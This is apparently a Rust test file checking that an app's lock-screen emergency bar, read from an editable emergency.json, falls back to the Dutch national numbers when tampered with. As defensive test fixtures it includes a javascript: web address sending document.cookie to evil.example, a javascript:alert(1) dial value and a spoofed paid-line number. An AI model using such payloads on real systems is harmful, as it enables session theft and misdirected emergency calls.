//! The emergency bar's plaintext file, attacked: anyone with access to the files can edit
//! `emergency.json`, and the lock screen reads it before anyone has unlocked anything. Whatever
//! is done to it, the bar dials only numbers the app can vouch for.
mod common;

use common::*;
use meldcode_engine::profile::{check_contact, Contact, ContactKind, PhoneNumber};
use meldcode_store::boundary::{emergency_numbers, national_emergency_numbers, EMERGENCY_FILE};
use meldcode_store::{LockScreen, Store};
use serde_json::{json, Value};

fn read_file(f: &Fresh) -> Vec<Value> {
    let text = std::fs::read_to_string(f.data().join(EMERGENCY_FILE)).expect("emergency file");
    serde_json::from_str(&text).expect("a JSON list")
}

/// Edits the file as an attacker would, then looks at the lock screen.
fn tamper(f: &Fresh, edit: impl FnOnce(&mut Vec<Value>)) -> LockScreen {
    let mut bar = read_file(f);
    edit(&mut bar);
    let text = serde_json::to_string_pretty(&bar).expect("serialises");
    std::fs::write(f.data().join(EMERGENCY_FILE), text).expect("write");
    Store::lock_screen(&f.data())
}

fn index_of(bar: &[Value], kind: &str) -> usize {
    bar.iter()
        .position(|c| c["kind"] == kind)
        .expect("the Mozaïek bar has this kind")
}

/// The bar fell back to 112 and Veilig Thuis, the note says so, and the numbers the lock screen
/// dials (`emergency_numbers`, behind `open_contact`) are the national ones too.
fn assert_national_numbers_and_note(f: &Fresh, screen: &LockScreen) {
    assert_eq!(screen.emergency, national_emergency_numbers());
    let note = screen
        .emergency_problem
        .as_ref()
        .expect("a note on the lock screen");
    assert_eq!(note.code, "emergency_numbers_unreadable");
    assert!(
        note.message.contains("landelijke nummers"),
        "{}",
        note.message
    );
    assert_eq!(emergency_numbers(&f.data()), national_emergency_numbers());
    // The users are listed as before: the bar's trouble is not the vault's.
    assert_eq!(screen.problem, None);
    assert!(!screen.users.is_empty());
}

#[test]
fn a_good_file_shows_the_schools_bar() {
    let f = fresh();
    let screen = Store::lock_screen(&f.data());
    assert_eq!(screen.emergency_problem, None);
    let ids: Vec<&str> = screen.emergency.iter().map(|c| c.id.as_str()).collect();
    assert_eq!(
        ids,
        [
            "alarmnummer-112",
            "veilig-thuis-landelijk",
            "crisisdienst-jeugdbescherming-noord"
        ]
    );
    // The file can be rewritten unchanged (formatting aside) and is still the school's bar.
    let screen = tamper(&f, |_| {});
    assert_eq!(screen.emergency_problem, None);
    assert_eq!(screen.emergency.len(), 3);
}

#[test]
fn a_javascript_web_address_falls_back_to_the_national_numbers() {
    let f = fresh();
    let screen = tamper(&f, |bar| {
        let vt = index_of(bar, "veilig_thuis");
        bar[vt]["website"] = "javascript:fetch('https://evil.example/'+document.cookie)".into();
    });
    assert_national_numbers_and_note(&f, &screen);
}

#[test]
fn a_plain_http_web_address_falls_back_to_the_national_numbers() {
    let f = fresh();
    let screen = tamper(&f, |bar| {
        let vt = index_of(bar, "veilig_thuis");
        bar[vt]["website"] = "http://veiligthuis.example/".into();
    });
    assert_national_numbers_and_note(&f, &screen);
}

#[test]
fn a_number_that_cannot_be_dialled_falls_back_to_the_national_numbers() {
    for (dial, display) in [
        ("12345", "12345"),
        ("+31 800 2000", "0800 2000"),
        ("javascript:alert(1)", "0800 2000"),
        ("", ""),
    ] {
        let f = fresh();
        let screen = tamper(&f, |bar| {
            let crisis = index_of(bar, "crisis_service");
            bar[crisis]["phone"] = json!({ "dial": dial, "display": display });
        });
        assert_national_numbers_and_note(&f, &screen);
    }
}

#[test]
fn a_shown_number_that_is_not_the_dialled_one_falls_back_to_the_national_numbers() {
    let f = fresh();
    let screen = tamper(&f, |bar| {
        let vt = index_of(bar, "veilig_thuis");
        // Reads as Veilig Thuis, dials a paid line.
        bar[vt]["phone"] = json!({ "dial": "+319009876543", "display": "0800 2000" });
    });
    assert_national_numbers_and_note(&f, &screen);
}

#[test]
fn a_112_button_that_dials_another_number_falls_back_to_the_national_numbers() {
    let f = fresh();
    let mobile = PhoneNumber::parse("06-12345678").expect("a valid Dutch mobile number");
    let screen = tamper(&f, |bar| {
        let emergency = index_of(bar, "emergency");
        bar[emergency]["phone"] = serde_json::to_value(&mobile).expect("serialises");
    });
    assert_national_numbers_and_note(&f, &screen);
}

#[test]
fn a_persons_phone_on_the_bar_falls_back_to_the_national_numbers() {
    let f = fresh();
    let person = Contact {
        id: "jan".into(),
        name: "Jan (mobiel)".into(),
        kind: ContactKind::Other,
        phone: Some(PhoneNumber::parse("06-12345678").expect("valid")),
        email: None,
        website: None,
        address: None,
        contact_person: None,
        hours: None,
        note: None,
        emergency_bar: true,
    };
    // As a contact it is in order; only the bar's own rule keeps it off the lock screen.
    assert_eq!(check_contact(&person), Ok(()));
    let screen = tamper(&f, |bar| {
        bar.insert(0, serde_json::to_value(&person).expect("serialises"));
    });
    assert_national_numbers_and_note(&f, &screen);

    // The same number passed off as the crisis service's contact person.
    let f = fresh();
    let screen = tamper(&f, |bar| {
        let crisis = index_of(bar, "crisis_service");
        bar[crisis]["contact_person"] = "Jan de Boer".into();
    });
    assert_national_numbers_and_note(&f, &screen);
}

#[test]
fn a_contact_of_another_kind_falls_back_to_the_national_numbers() {
    for kind in ["board", "youth_care", "other", "politie"] {
        let f = fresh();
        let screen = tamper(&f, |bar| {
            let crisis = index_of(bar, "crisis_service");
            bar[crisis]["kind"] = kind.into();
        });
        assert_national_numbers_and_note(&f, &screen);
    }
}

#[test]
fn a_removed_emptied_or_garbled_file_falls_back_to_the_national_numbers() {
    let f = fresh();
    let screen = tamper(&f, |bar| bar.retain(|c| c["kind"] != "emergency"));
    assert_national_numbers_and_note(&f, &screen);
    let screen = tamper(&f, Vec::clear);
    assert_national_numbers_and_note(&f, &screen);

    let path = f.data().join(EMERGENCY_FILE);
    for text in ["", "{", "{\"not\": \"a list\"}", "[1, 2, 3]"] {
        std::fs::write(&path, text).expect("write");
        assert_national_numbers_and_note(&f, &Store::lock_screen(&f.data()));
    }
    // Far larger than any bar, yet well-formed: not read into memory.
    let padding = " ".repeat(200 * 1024);
    let good = serde_json::to_string(&national_emergency_numbers()).expect("serialises");
    std::fs::write(&path, format!("{good}{padding}")).expect("write");
    assert_national_numbers_and_note(&f, &Store::lock_screen(&f.data()));

    std::fs::remove_file(&path).expect("remove");
    assert_national_numbers_and_note(&f, &Store::lock_screen(&f.data()));
}

#[test]
fn before_set_up_the_national_numbers_need_no_note() {
    let dir = tempfile::tempdir().expect("temp dir");
    let screen = Store::lock_screen(&dir.path().join("data"));
    assert_eq!(screen.emergency, national_emergency_numbers());
    assert_eq!(screen.emergency_problem, None);
}
